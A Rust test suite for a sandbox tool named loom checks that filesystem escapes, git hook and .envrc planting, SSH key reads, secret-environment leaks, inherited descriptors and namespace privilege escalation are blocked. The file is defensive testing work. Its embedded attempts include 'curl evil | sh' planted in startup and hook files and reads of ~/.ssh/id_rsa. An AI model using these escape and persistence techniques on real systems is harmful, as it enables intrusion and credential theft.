//! Filesystem, environment, descriptor and privilege attacks.

use std::process::Command;

use crate::{need_sandbox, tier_available, verdicts, Sbx};

#[test]
fn writes_outside_the_roots_are_blocked() {
    need_sandbox!();
    let s = Sbx::new();
    let victim = s.outside.join("victim.txt");
    let v = victim.display();
    let code = format!(
        r#"
os.symlink("{v}", "link-out")
attempt("plain", lambda: write("{v}", "pwned", "a"))
attempt("o_trunc", lambda: write("{v}", ""))
attempt("truncate", lambda: os.truncate("{v}", 0))
attempt("via_symlink", lambda: write("link-out"))
attempt("via_proc_root", lambda: write("/proc/self/root{v}"))
attempt("hard_link", lambda: os.link("{v}", "hl"))
attempt("create_beside", lambda: write("{o}/new.txt"))
attempt("rename_out", lambda: os.rename("{v}", "stolen"))
attempt("unlink", lambda: os.unlink("{v}"))
attempt("write_etc", lambda: write("/etc/loom-pwned"))
attempt("write_usr", lambda: write("/usr/bin/loom-pwned"))
attempt("control_write", lambda: write("mine.txt", "ok"))
attempt("control_read_outside", lambda: open("{v}").read())
attempt("control_tmp", lambda: write("/tmp/scratch"))
"#,
        o = s.outside.display()
    );
    let r = s.py(&s.grant(), &[], &code);
    r.expect_code(0);
    verdicts(
        &r,
        &[
            "plain",
            "o_trunc",
            "truncate",
            "via_symlink",
            "via_proc_root",
            "hard_link",
            "create_beside",
            "rename_out",
            "unlink",
            "write_etc",
            "write_usr",
        ],
        &["control_write", "control_read_outside", "control_tmp"],
    );
    assert_eq!(s.host_read(&victim), "original");
    assert_eq!(s.host_read(&s.work.join("mine.txt")), "ok");
    assert!(!s.outside.join("new.txt").exists());
    assert!(!std::path::Path::new("/etc/loom-pwned").exists());
}

#[test]
fn a_hard_link_made_inside_cannot_reach_outside() {
    need_sandbox!();
    let s = Sbx::new();
    // Plant a hard link to the victim inside the writable root (as an earlier, unconfined step might have done):
    // writing through it changes the same inode, which is exactly why roots cannot contain links out. Here we check
    // the in-sandbox attempt to *make* one fails, and that a link the sandbox makes to its own file works.
    let v = s.outside.join("victim.txt");
    let code = format!(
        r#"
attempt("link_outside_into_root", lambda: os.link("{v}", "hl"))
write("own.txt", "x")
attempt("control_link_inside", lambda: os.link("own.txt", "own-link"))
"#,
        v = v.display()
    );
    let r = s.py(&s.grant(), &[], &code);
    verdicts(&r, &["link_outside_into_root"], &["control_link_inside"]);
    assert!(!s.work.join("hl").exists());
}

#[test]
fn metadata_changes_outside_are_blocked() {
    need_sandbox!();
    let s = Sbx::new();
    let victim = s.outside.join("victim.txt");
    let before = std::fs::metadata(&victim).unwrap();
    let code = format!(
        r#"
attempt("chmod", lambda: os.chmod("{v}", 0o777))
attempt("utime", lambda: os.utime("{v}", (0, 0)))
attempt("setxattr", lambda: os.setxattr("{v}", "user.loom", b"1"))
attempt("chown", lambda: os.chown("{v}", 1, 1))
attempt("control_chmod", lambda: os.chmod("notes.txt", 0o600))
attempt("control_utime", lambda: os.utime("notes.txt", (0, 0)))
"#,
        v = victim.display()
    );
    let r = s.py(&s.grant(), &[], &code);
    verdicts(
        &r,
        &["chmod", "utime", "setxattr", "chown"],
        &["control_chmod", "control_utime"],
    );
    let after = std::fs::metadata(&victim).unwrap();
    use std::os::unix::fs::MetadataExt;
    assert_eq!(before.mode(), after.mode());
    assert_eq!(before.mtime(), after.mtime());
}

/// A protected name that does not exist cannot be bound read-only, so a command can create it; once the command has
/// ended, loom moves whatever it created there aside (`sandbox/src/sweep.rs`), in every tier: the next session, the
/// user's shell or git never find it under the trusted name, and nothing is lost.
#[test]
fn protected_names_a_command_creates_are_moved_aside_when_it_ends() {
    need_sandbox!();
    for tier in ["a", "b", "c"] {
        let s = Sbx::new();
        if !tier_available(&s, tier) {
            continue;
        }
        std::fs::create_dir(s.work.join("plain")).unwrap();
        std::fs::write(s.outside.join("config.toml"), "the user's").unwrap();
        let code = format!(
            r#"
write(".envrc", "curl evil | sh")
print("during:", open(".envrc").read(), flush=True)
os.makedirs(".config/fish"); write(".config/fish/config.fish", "evil")
os.makedirs(".git/hooks"); write(".git/hooks/pre-commit", "evil")
os.makedirs("plain/.git"); write("plain/.git/config", "[core]\nfsmonitor = evil")
os.symlink("{}", ".cargo")
write("kept.txt", "mine")
"#,
            s.outside.display()
        );
        let r = s.py(&s.grant(), &["--tier", tier], &code);
        r.expect_code(0).stdout_has("during: curl evil | sh");
        let w = &s.work;
        for (from, to) in [
            (".envrc", ".envrc.loom-moved"),
            (".config/fish", ".config/fish.loom-moved"),
            (".git", ".git.loom-moved"),
            ("plain/.git", "plain/.git.loom-moved"),
            (".cargo", ".cargo.loom-moved"),
        ] {
            assert!(
                w.join(from).symlink_metadata().is_err(),
                "tier {tier}: {from} is still there"
            );
            assert!(
                w.join(to).symlink_metadata().is_ok(),
                "tier {tier}: no {to}"
            );
            r.stderr_has(&format!(
                "loom: {} (a protected name that did not exist when the command started) was moved to {}",
                w.join(from).display(),
                w.join(to).display()
            ));
        }
        // moved, with what the command wrote; the link moved as a link, its target untouched
        assert_eq!(s.host_read(&w.join(".envrc.loom-moved")), "curl evil | sh");
        assert_eq!(
            s.host_read(&w.join(".config/fish.loom-moved/config.fish")),
            "evil"
        );
        assert_eq!(
            s.host_read(&w.join(".git.loom-moved/hooks/pre-commit")),
            "evil"
        );
        assert!(w
            .join(".cargo.loom-moved")
            .symlink_metadata()
            .unwrap()
            .file_type()
            .is_symlink());
        assert_eq!(s.host_read(&s.outside.join("config.toml")), "the user's");
        // the rest of the command's work stays
        assert!(w.join(".config").is_dir());
        assert_eq!(s.host_read(&w.join("kept.txt")), "mine");
        // a command that creates nothing protected says nothing about it
        let r = s.run(&s.grant(), &["--tier", tier], &["true"]);
        r.expect_code(0).stderr_lacks("moved");
    }
}

#[test]
fn protected_subpaths_stay_read_only() {
    need_sandbox!();
    let s = Sbx::new();
    for d in [".git/hooks", ".loom"] {
        std::fs::create_dir_all(s.work.join(d)).unwrap();
    }
    std::fs::write(s.work.join(".git/config"), "[core]\n").unwrap();
    std::fs::write(s.work.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(s.work.join(".mcp.json"), "{}").unwrap();
    std::fs::write(s.work.join(".bashrc"), "# rc\n").unwrap();
    std::fs::write(s.work.join(".loom/state"), "s").unwrap();
    let code = r##"
attempt("hook", lambda: write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil"))
attempt("git_config", lambda: write(".git/config", "[core]\nfsmonitor = evil", "a"))
attempt("loom_dir", lambda: write(".loom/state"))
attempt("loom_new", lambda: write(".loom/new"))
attempt("mcp_json", lambda: write(".mcp.json"))
attempt("bashrc", lambda: write(".bashrc", "evil", "a"))
attempt("rename_hooks", lambda: os.rename(".git/hooks", ".git/hooks-old"))
attempt("unlink_config", lambda: os.unlink(".git/config"))
attempt("rename_grandparent", lambda: os.rename(".git", ".git-old"))
attempt("rmdir_grandparent", lambda: os.rmdir(".git"))
attempt("git_head", lambda: write(".git/HEAD", "ref: refs/heads/x\n"))
attempt("commondir", lambda: write(".git/commondir", "/tmp/evil"))
attempt("control_project", lambda: write("src.txt", "code"))
"##;
    let r = s.py(&s.grant(), &[], code);
    r.expect_code(0);
    verdicts(
        &r,
        &[
            "hook",
            "git_config",
            "loom_dir",
            "loom_new",
            "mcp_json",
            "bashrc",
            "rename_hooks",
            "unlink_config",
            "rename_grandparent",
            "rmdir_grandparent",
            "git_head",
            "commondir",
        ],
        &["control_project"],
    );
    assert_eq!(s.host_read(&s.work.join(".git/config")), "[core]\n");
    assert!(!s.work.join(".git/hooks/pre-commit").exists());
    assert!(!s.work.join(".git/commondir").exists());
    assert!(!s.work.join(".git-old").exists());
    // the opt-in: a grant naming the repository as a root of its own lets commands write it (commit), while the
    // files through which git runs code stay read-only
    let code = r##"
attempt("hook", lambda: write(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil"))
attempt("git_config", lambda: write(".git/config", "[core]\nfsmonitor = evil", "a"))
attempt("rename_grandparent", lambda: os.rename(".git", ".git-old"))
attempt("control_git_head", lambda: write(".git/HEAD", "ref: refs/heads/x\n"))
"##;
    let grant = format!(
        r#"{{ commands = "*", paths = ["{w}", "{w}/.git"] }}"#,
        w = s.work.display()
    );
    let r = s.py(&grant, &[], code);
    r.expect_code(0);
    verdicts(
        &r,
        &["hook", "git_config", "rename_grandparent"],
        &["control_git_head"],
    );
    assert_eq!(s.host_read(&s.work.join(".git/config")), "[core]\n");
    assert_eq!(s.host_read(&s.work.join(".bashrc")), "# rc\n");
}

#[test]
fn home_secrets_are_hidden_unless_granted() {
    need_sandbox!();
    let s = Sbx::new();
    let key = s.home.join(".ssh/id_rsa");
    let code = format!(
        r#"
attempt("ssh_key", lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read())
attempt("ssh_key_abs", lambda: open("{k}").read())
attempt("ssh_dir", lambda: os.listdir(os.path.expanduser("~/.ssh")))
attempt("control_home_is_private_and_writable", lambda: write(os.path.expanduser("~/.cache-test")))
attempt("control_project", lambda: open("notes.txt").read())
"#,
        k = key.display()
    );
    let r = s.py(&s.grant(), &[], &code);
    verdicts(
        &r,
        &["ssh_key", "ssh_key_abs", "ssh_dir"],
        &["control_home_is_private_and_writable", "control_project"],
    );
    assert!(
        !s.home.join(".cache-test").exists(),
        "home is a private tmpfs"
    );
    // Control: granting ~/.ssh read-only makes the same read work, so the test can see it when allowed.
    let granted = format!(
        r#"{{ commands = "*", paths = ["{}"], read_paths = ["~/.ssh"] }}"#,
        s.work.display()
    );
    let r = s.py(
        &granted,
        &[],
        r#"print(open(os.path.expanduser("~/.ssh/id_rsa")).read())"#,
    );
    r.expect_code(0).stdout_has("PRIVATE KEY");
}

#[test]
fn secret_env_does_not_leak() {
    need_sandbox!();
    let s = Sbx::new();
    let r = s.run(&s.grant(), &[], &["env"]);
    r.expect_code(0)
        .stdout_lacks("hunter2-secret")
        .stdout_lacks("SECRET_TOKEN")
        .stdout_lacks("LOOM_DATA_HOME")
        .stdout_has("HOME=")
        .stdout_has("PATH=");
    // env = [] keeps tier 1 only.
    let hermetic = format!(
        r#"{{ commands = "*", paths = ["{}"], env = [] }}"#,
        s.work.display()
    );
    s.run(&hermetic, &[], &["/usr/bin/env"])
        .expect_code(0)
        .stdout_has("HOME=")
        .stdout_lacks("PATH=");
    // Control: naming the variable passes it through.
    let named = format!(
        r#"{{ commands = "*", paths = ["{}"], env = ["SECRET_*"] }}"#,
        s.work.display()
    );
    s.run(&named, &[], &["/usr/bin/env"])
        .expect_code(0)
        .stdout_has("SECRET_TOKEN=hunter2-secret");
}

#[test]
fn inherited_writable_descriptors_are_closed() {
    need_sandbox!();
    let s = Sbx::new();
    let target = s.outside.join("fd-victim.txt");
    std::fs::write(&target, "").unwrap();
    let script = r#"exec 5>>"$1"; shift; exec "$@""#;
    let out = Command::new("/bin/sh")
        .args(["-c", script, "sh", target.to_str().unwrap()])
        .arg(crate::loom())
        .args(["sandbox", "run", "--grant", &s.grant(), "--cwd"])
        .arg(&s.work)
        .args([
            "--",
            "sh",
            "-c",
            "echo pwned >&5 && echo WROTE || echo FD5-CLOSED; echo control-stdout",
        ])
        .env_clear()
        .env("PATH", "/usr/bin:/bin")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(stdout.contains("FD5-CLOSED"), "{stdout}");
    assert!(stdout.contains("control-stdout"), "{stdout}");
    assert_eq!(std::fs::read_to_string(&target).unwrap(), "");
}

#[test]
fn privileges_cannot_be_regained() {
    need_sandbox!();
    let s = Sbx::new();
    let code = r#"
status = open("/proc/self/status").read()
for line in status.splitlines():
    if line.split(":")[0] in ("NoNewPrivs", "CapEff", "CapPrm", "CapBnd", "Seccomp"):
        print(line.replace("\t", " "))
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
attempt("unshare_user", lambda: libc.unshare(CLONE_NEWUSER))
attempt("unshare_mount", lambda: libc.unshare(CLONE_NEWNS))
attempt("remount_rw", lambda: libc.mount(b"none", b"/usr", None, 0x20 | 0x1000, None))
attempt("control_unshare_nothing", lambda: libc.unshare(0))
"#;
    let r = s.py(&s.grant(), &[], code);
    r.expect_code(0)
        .stdout_has("NoNewPrivs: 1")
        .stdout_has("CapEff: 0000000000000000")
        .stdout_has("CapBnd: 0000000000000000")
        .stdout_has("Seccomp: 2");
    verdicts(
        &r,
        &["unshare_user", "unshare_mount", "remount_rw"],
        &["control_unshare_nothing"],
    );
    // The nested user namespace tool fails too.
    let r = s.run(
        &s.grant(),
        &[],
        &[
            "sh",
            "-c",
            "unshare -Ur true && echo NESTED || echo NO-NESTED",
        ],
    );
    r.stdout_has("NO-NESTED");
}
